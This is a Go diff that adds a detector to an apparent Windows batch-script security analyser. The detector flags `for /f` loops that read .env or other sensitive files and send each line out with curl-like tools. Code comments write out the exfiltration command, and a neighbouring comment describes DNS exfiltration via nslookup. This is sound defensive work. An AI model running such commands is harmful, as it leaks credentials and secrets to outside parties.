@@ -1437,6 +1437,26 @@ func (ws *winState) cmdForBound(head, body []cTok, in flow, stage int) bool {
 				return true
 			}
 		}
+		if src != "" && src[0] != '\'' && src[0] != '`' && len(body) > 0 && body[0].kind == cWord && fetchers[canonicalName(strings.ToLower(strings.TrimPrefix(body[0].s, "@")))] {
+			// for /f "usebackq tokens=*" %a in (".env") do curl URL?d=%a:
+			// each line of a secret file sent as a request
+			p := ws.a.winAbs(strings.Trim(src, `"`))
+			d, _ := ws.a.winSensitive(p)
+			if d == "" {
+				d = ws.secret[p]
+			}
+			if b := strings.ToLower(path.Base(strings.ReplaceAll(p, `\`, "/"))); d == "" && (b == ".env" || strings.HasPrefix(b, ".env.") && !envTemplate(b)) {
+				d = "the project's " + b
+			}
+			if d != "" {
+				for _, t := range body[1:] {
+					if t.kind == cWord && strings.Contains(t.s, v) {
+						ws.emitWin(nil, "win-exfil-secrets", d+" sent line by line by "+strings.TrimPrefix(body[0].s, "@"))
+						return true
+					}
+				}
+			}
+		}
 		if src != "" && src[0] != '\'' && src[0] != '`' && !strings.HasPrefix(src, `"`) && len(body) > 0 && body[0].kind == cWord && dnsLookupTool(body[0].s) {
 			// for /f %a in (FILE) do nslookup %a.DOMAIN: each line of the
 			// file leaves as a name looked up under someone's domain
